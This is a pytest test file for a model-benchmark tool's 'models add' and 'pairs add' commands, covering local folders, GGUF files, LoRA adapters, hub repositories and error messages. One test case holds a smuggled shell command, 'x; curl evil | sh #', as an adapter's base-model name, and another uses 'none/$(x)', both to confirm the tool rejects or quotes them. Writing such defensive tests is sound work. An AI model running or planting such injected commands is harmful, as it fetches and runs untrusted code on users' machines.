"""`models add` and `pairs add`: entries from a folder, a file or the hub, written behind what is there."""

import hashlib
import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from hub import Hub, reached_here
from huggingface_hub import constants
from tiny_models import entry, pair_entry

from bench.entries import AdapterSource, FileSource, HubFileSource, HubSource
from bench.registry import load_registry
from bench.schema import DrsowError, PreconditionError, UsageError
from bench.verbs.add import Asked, add_model, add_pair
from bench.verbs.lock import read_lock

OLD, NEW = "a" * 40, "b" * 40
N_PARAMS = 41_376
"""Of the model tiny-strong: see `save_tiny`; its tokenizer has 356 tokens."""


@pytest.fixture
def mine(tmp_path) -> Path:
    """A registry folder that does not exist yet."""
    return tmp_path / "mine"


def copied(tiny_registry: Path, name: str, to: Path, *, card: str = "") -> Path:
    """A tiny model's folder, with a model card if one is given."""
    shutil.copytree(tiny_registry / name, to)
    if card:
        (to / "README.md").write_text(f"---\n{card}\n---\n# A model\n")
    return to


def test_a_folder_becomes_an_entry_of_a_new_registry(tiny_registry, mine, tmp_path):
    folder = copied(tiny_registry, "strong", tmp_path / "My Model", card="language: en\nlicense: mit")
    added = add_model(mine, str(folder), Asked(method="dpo"))
    assert (added.path, added.entry_id, added.notes) == (mine / "models.toml", "my-model", ())
    spec = load_registry(mine).model("my-model")
    assert (spec.source.folder, spec.format, spec.method) == (folder, "safetensors", "dpo")
    assert (spec.n_params, spec.licence, spec.context_tokens) == (N_PARAMS, "mit", 2048)
    assert spec.note == "chat template: its own"


def test_what_is_unknown_is_left_out_and_said(tiny_registry, mine):
    added = add_model(mine, str(tiny_registry / "weak"), Asked())
    assert added.notes == (
        "unknown, and left out: licence",
        "method is 'unknown'; --method says how it was trained last",
        "it has no chat template",
    )
    assert load_registry(mine).model("weak").licence is None


def test_a_folder_inside_the_registry_is_relative(tiny_registry, mine):
    copied(tiny_registry, "weak", mine / "weights" / "weak")
    assert '"weights/weak"' in add_model(mine, str(mine / "weights" / "weak"), Asked()).text
    shutil.move(mine, mine.with_name("moved"))
    moved = mine.with_name("moved")
    assert load_registry(moved).model("weak").source.folder == moved / "weights" / "weak"


def test_tuned_folders_have_the_names_that_the_user_gave_them(tiny_registry, mine, tmp_path):
    for name in ("tuned-dpo", "tuned-sft"):
        copied(tiny_registry, "strong", tmp_path / name / "model")
        assert add_model(mine, str(tmp_path / name), Asked()).entry_id == name
        assert load_registry(mine).model(name).source.folder == tmp_path / name / "model"


def test_an_entry_stands_behind_what_the_file_held(tiny_registry, mine):
    mine.mkdir()
    before = "# Ours, with a remark\r\n" + entry("tiny-strong", str(tiny_registry / "strong")).strip()
    (mine / "models.toml").write_bytes(before.encode())
    added = add_model(mine, str(tiny_registry / "weak"), Asked())
    assert (mine / "models.toml").read_bytes().decode() == f"{before}\n\n{added.text}\n"
    assert {"tiny-strong", "weak"} <= set(load_registry(mine).models)


@pytest.mark.parametrize("taken", ["weak", "mistral-7b-v0.1"])
def test_an_entry_that_is_there_is_not_changed(tiny_registry, mine, taken):
    add_model(mine, str(tiny_registry / "weak"), Asked())
    before = (mine / "models.toml").read_bytes()
    words = rf"^the registry has a model {taken} already, and no entry is changed; name another id with --model-id$"
    with pytest.raises(UsageError, match=words):
        add_model(mine, str(tiny_registry / "strong"), Asked(model_id=taken))
    assert (mine / "models.toml").read_bytes() == before


def test_a_file_that_cannot_take_an_entry_is_one_line(tiny_registry, mine):
    mine.mkdir()
    source = f'source = {{ folder = "{tiny_registry / "strong"}" }}, format = "safetensors", method = "sft"'
    (mine / "models.toml").write_text(f'models = [{{ model_id = "x", {source} }}]\n')
    with pytest.raises(
        UsageError, match=r"models\.toml: \[\[models\]\] cannot stand at its end \(.*\); write the entry"
    ):
        add_model(mine, str(tiny_registry / "weak"), Asked())


def test_a_gguf_file_has_its_digest(mine, tmp_path):
    (tmp_path / "Tiny-Q4.gguf").write_bytes(b"GGUF")
    add_model(mine, str(tmp_path / "Tiny-Q4.gguf"), Asked())
    spec = load_registry(mine).model("tiny-q4")
    assert isinstance(spec.source, FileSource) and spec.format == "gguf"
    assert spec.source.sha256 == hashlib.sha256(b"GGUF").hexdigest()


@pytest.mark.parametrize(
    ("place", "asked", "words"),
    [
        ("x.gguf", Asked(base="x", revision="r"), "is a .gguf file and takes no --base or --revision"),
        ("strong", Asked(revision="r"), "is a folder on this machine and takes no --revision"),
        ("lora", Asked(file="f"), "is a LoRA adapter and takes no --file"),
    ],
)
def test_an_option_that_the_place_does_not_read_is_refused(tiny_registry, mine, tmp_path, place, asked, words):
    (tmp_path / "x.gguf").write_bytes(b"GGUF")
    copied(tiny_registry, "strong", tmp_path / "strong")
    adapter(tmp_path / "lora", "mistralai/Mistral-7B-v0.1")
    with pytest.raises(UsageError) as error:
        add_model(mine, str(tmp_path / place), asked)
    assert str(error.value) == f"{tmp_path / place}: {words}"
    assert not mine.exists()


def adapter(folder: Path, base: str, **more: object) -> Path:
    """The files of an adapter; nothing here reads its weights."""
    folder.mkdir()
    config = {"peft_type": "LORA", "base_model_name_or_path": base} | more
    (folder / "adapter_config.json").write_text(json.dumps(config))
    (folder / "adapter_model.safetensors").write_bytes(b"")
    return folder


def test_an_adapter_takes_its_base_from_the_registry(mine, tmp_path):
    folder = adapter(tmp_path / "lora", "mistralai/Mistral-7B-v0.1")
    add_model(mine, str(folder), Asked())
    spec, base = (load_registry(mine).model(name) for name in ("lora", "mistral-7b-v0.1"))
    assert isinstance(spec.source, AdapterSource)
    assert (spec.source.base, spec.source.adapter) == (base.model_id, str(folder))
    assert (spec.n_params, spec.context_tokens) == (base.n_params, base.context_tokens)


def test_a_folder_of_a_model_and_an_adapter_becomes_an_adapter_and_says_so(tiny_registry, mine, tmp_path):
    folder = copied(tiny_registry, "strong", tmp_path / "out")
    for path in adapter(tmp_path / "lora", "mistralai/Mistral-7B-v0.1").iterdir():
        shutil.copy(path, folder)
    added = add_model(mine, str(folder), Asked(method="dpo"))
    source = load_registry(mine).model("out").source
    assert (source.base, source.adapter) == ("mistral-7b-v0.1", str(folder))
    assert "it is added as an adapter of mistral-7b-v0.1; the other weights in its folder are not read" in added.notes
    config = {"peft_type": "LORA", "base_model_name_or_path": "me/base"}
    (folder / "adapter_config.json").write_text(json.dumps(config))
    with pytest.raises(UsageError) as error:
        add_model(mine, str(folder), Asked(model_id="second"))
    words = "with --base, or a copy without adapter_config.json if its other weights contain it"
    assert str(error.value).endswith(words)


@pytest.mark.parametrize(
    ("more", "asked", "words"),
    [
        (
            {},
            Asked(),
            "is an adapter of me/base, which no entry of the registry has; add it first (`drsow models add me/base "
            "--registry MINE`), or name the base's model_id with --base",
        ),
        (
            {"base_model_name_or_path": "x; curl evil | sh #"},
            Asked(),
            "is an adapter of 'x; curl evil | sh #', which is no hub repository; name its base's model_id with --base",
        ),
        (
            {"base_model_name_or_path": None},
            Asked(),
            "lora: is an adapter that names no base; name its base's model_id with --base",
        ),
        ({"peft_type": "IA3"}, Asked(base="mistral-7b-v0.1"), "is of the kind 'IA3'; drsow merges LoRA adapters only"),
        ({}, Asked(base="mistral-7b"), "unknown model 'mistral-7b', did you mean "),
    ],
)
def test_an_adapter_without_a_known_base_is_one_line(mine, tmp_path, more, asked, words):
    with pytest.raises(DrsowError) as error:
        add_model(mine, str(adapter(tmp_path / "lora", "me/base", **more)), asked)
    assert words.replace("MINE", str(mine)) in str(error.value) and "\n" not in str(error.value)
    assert not mine.exists()


def test_a_registry_with_a_space_in_its_name_is_quoted_in_the_command(tmp_path):
    mine = tmp_path / "my registry"
    with pytest.raises(UsageError, match=f"add Me/Base --registry '{mine}'`"):
        add_model(mine, str(adapter(tmp_path / "lora", "Me/Base")), Asked())
    with pytest.raises(UsageError, match=f"add REPO --registry '{mine}'`"):
        add_pair(mine, "none/$(x)", "tiny", pair_id=None, template=None)
    with pytest.raises(PreconditionError, match=f"--lock '{mine}/l'`"):
        read_lock(mine / "l")


@pytest.mark.parametrize(
    ("place", "asked", "words"),
    [
        ("nowhere", Asked(), "nowhere: is neither a folder or .gguf file here nor a hub repository (owner/name)"),
        (".", Asked(), ".: has no config.json with safetensors weights, no GGUF file and no LoRA adapter; pickled "),
        (".", Asked(base="x"), ".: has no adapter_config.json, so it is no adapter and takes no --base"),
        ("WEAK", Asked(model_id="A--b"), "A--b: model_id: 'A--b' is no id (a-z 0-9 . _ -, no '--', at most 80)"),
    ],
)
def test_what_is_no_model_is_one_line(tiny_registry, mine, tmp_path, monkeypatch, place, asked, words):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(DrsowError) as error:
        add_model(mine, place.replace("WEAK", str(tiny_registry / "weak")), asked)
    assert str(error.value).startswith(words)


@pytest.fixture
def hub(tiny_registry, tmp_path, monkeypatch) -> Iterator[Hub]:
    """A hub with the repository Me/Tiny at two commits, and a cache of its own."""
    with reached_here(monkeypatch, tmp_path / "cache") as found:
        folder = copied(tiny_registry, "strong", tmp_path / "tiny", card="license: apache-2.0")
        found.add("Me/Tiny", folder, OLD)
        found.add("Me/Tiny", folder, NEW)
        facts = {"cardData": {"license": "apache-2.0"}, "safetensors": {"parameters": {}, "total": 12345}}
        found.facts["Me/Tiny"] = facts
        yield found


def test_a_repository_becomes_an_entry_at_its_newest_commit_without_its_weights(hub, mine):
    add_model(mine, "Me/Tiny", Asked(method="sft"))
    spec = load_registry(mine).model("tiny")
    assert spec.source == HubSource(repo="Me/Tiny", revision=NEW)
    assert (spec.n_params, spec.licence, spec.context_tokens) == (12345, "apache-2.0", 2048)
    assert spec.note == "chat template: its own"
    assert not [path for _, path, _ in hub.asked if path.endswith(".safetensors")]
    add_model(mine, "Me/Tiny", Asked(model_id="older", revision=OLD))
    assert load_registry(mine).model("older").source.revision == OLD


def test_a_repository_in_the_cache_needs_no_hub(hub, mine, monkeypatch):
    add_model(mine, "Me/Tiny", Asked())
    monkeypatch.setattr(constants, "HF_HUB_OFFLINE", True)
    n_asked = len(hub.asked)
    add_model(mine, "Me/Tiny", Asked(model_id="again"))
    spec = load_registry(mine).model("again")
    assert (spec.source.revision, spec.licence, spec.context_tokens) == (NEW, "apache-2.0", 2048)
    # Its weights are not here, so nothing says how many parameters it has.
    assert spec.n_params is None and len(hub.asked) == n_asked


def test_a_repository_that_cannot_be_asked_is_one_line(hub, mine, monkeypatch):
    hub.gated.add("Me/Tiny")
    for place, words in (
        ("Me/Tiny", "Me/Tiny is gated: accept its licence on the hub and set HF_TOKEN"),
        ("me/gone", "the hub has no repository me/gone, or it needs HF_TOKEN"),
    ):
        with pytest.raises(PreconditionError) as error:
            add_model(mine, place, Asked())
        assert str(error.value) == words
    monkeypatch.setattr(constants, "HF_HUB_OFFLINE", True)
    with pytest.raises(
        PreconditionError, match=r"^me/gone: the hub cannot be reached \(.*\), and the repository is not on"
    ):
        add_model(mine, "me/gone", Asked())
    assert not mine.exists()


def test_a_repository_of_gguf_files_asks_which(hub, mine, tmp_path):
    (tmp_path / "files").mkdir()
    for name in ("a-Q4.gguf", "a-Q8.gguf"):
        (tmp_path / "files" / name).write_bytes(name.encode())
    hub.add("me/files", tmp_path / "files", OLD)
    with pytest.raises(UsageError) as error:
        add_model(mine, "me/files", Asked())
    words = "has GGUF files and no safetensors; name one of a-Q4.gguf, a-Q8.gguf with --file"
    assert str(error.value) == f"me/files: {words}"
    add_model(mine, "me/files", Asked(file="a-Q8.gguf"))
    digest = hashlib.sha256(b"a-Q8.gguf").hexdigest()
    expected = HubFileSource(repo="me/files", file="a-Q8.gguf", revision=OLD, sha256=digest)
    assert load_registry(mine).model("a-q8").source == expected
    with pytest.raises(
        UsageError, match=r"^me/files: has no file b\.gguf; name one of a-Q4\.gguf, a-Q8\.gguf with --file$"
    ):
        add_model(mine, "me/files", Asked(file="b.gguf"))


def test_an_adapter_of_the_hub_is_pinned(hub, mine, tmp_path):
    add_model(mine, "Me/Tiny", Asked())
    hub.add("me/lora", adapter(tmp_path / "lora", "Me/Tiny"), OLD)
    add_model(mine, "me/lora", Asked())
    source = load_registry(mine).model("lora").source
    assert (source.adapter, source.base, source.revision) == ("me/lora", "tiny", OLD)


def test_a_pair_of_known_models_is_added(tiny_registry, mine):
    for name in ("strong", "weak"):
        add_model(mine, str(tiny_registry / name), Asked())
    added = add_pair(mine, "strong", "weak", pair_id=None, template=None)
    assert (added.path, added.entry_id, added.notes) == (mine / "pairs.toml", "strong-over-weak", ())
    pair = load_registry(mine).pair("strong-over-weak")
    assert (pair.strong, pair.weak, pair.template) == ("strong", "weak", "strong")
    # The strong model of the next one has no chat template.
    turned = add_pair(mine, "weak", "strong", pair_id="turned", template=None)
    assert turned.notes == ("weak has no chat template, so both models read that of strong",)
    assert load_registry(mine).pair("turned").template == "strong"


@pytest.mark.parametrize(
    ("words", "options", "problem"),
    [
        (
            ("tiny-strong", "tiny-weka"),
            {},
            "unknown model 'tiny-weka', did you mean 'tiny-weak'?; `drsow models add REPO ",
        ),
        (("tiny-weak", "tiny-weak"), {}, "tiny-weak cannot be both the strong and the weak model"),
        (("tiny-strong", "tiny-weak"), {"pair_id": "tiny"}, "the registry has a pair tiny already, and no entry is "),
        (
            ("tiny-strong", "tiny-weak"),
            {"pair_id": "noise"},
            "the registry has a study noise already, and no entry is ",
        ),
        (
            ("tiny-strong", "tiny-weak"),
            {"pair_id": "scores"},
            "scores: pair_id: 'scores' is no name of a pair or study: results/scores has the score sets",
        ),
        (
            ("tiny-strong", "tiny-weak"),
            {"pair_id": "A"},
            "A: pair_id: 'A' is no id (a-z 0-9 . _ -, no '--', at most 80)",
        ),
        (("tiny-strong", "tiny-weak"), {"template": "x"}, "unknown model 'x'"),
    ],
)
def test_a_pair_that_cannot_be_added_is_one_line(tiny_registry, mine, words, options, problem):
    mine.mkdir()
    models = [entry(name, str(tiny_registry / name.removeprefix("tiny-"))) for name in ("tiny-strong", "tiny-weak")]
    (mine / "models.toml").write_text("".join(models))
    before = pair_entry("tiny", "tiny-strong", "tiny-weak")
    (mine / "pairs.toml").write_text(before)
    with pytest.raises(UsageError) as error:
        add_pair(mine, *words, **({"pair_id": None, "template": None} | options))
    assert str(error.value).startswith(problem) and "\n" not in str(error.value)
    assert (mine / "pairs.toml").read_text() == before


def test_the_command_prints_the_entry_and_lists_as_before(drsow, tiny_registry, mine):
    added = drsow("models", "add", tiny_registry / "strong", "--registry", mine)
    assert added.returncode == 0 and added.stdout.startswith('[[models]]\nmodel_id = "strong"\n')
    assert added.stderr.splitlines()[0] == f"{mine / 'models.toml'}: strong added"
    assert drsow("models", "--registry", mine, "add", tiny_registry / "weak").returncode == 0
    assert drsow("pairs", "add", "strong", "weak", "--registry", mine).returncode == 0
    listed = [drsow(verb, "--registry", mine, "--format", "csv").stdout for verb in ("models", "pairs")]
    assert "\nstrong," in listed[0] and "\nstrong-over-weak,strong,weak," in listed[1]
    nowhere = drsow("models", "add", tiny_registry / "weak")
    assert (nowhere.returncode, nowhere.stdout) == (2, "")
    assert (
        nowhere.stderr == "drsow: name the folder of your registry: --registry DIR; it is made if it does not exist\n"
    )
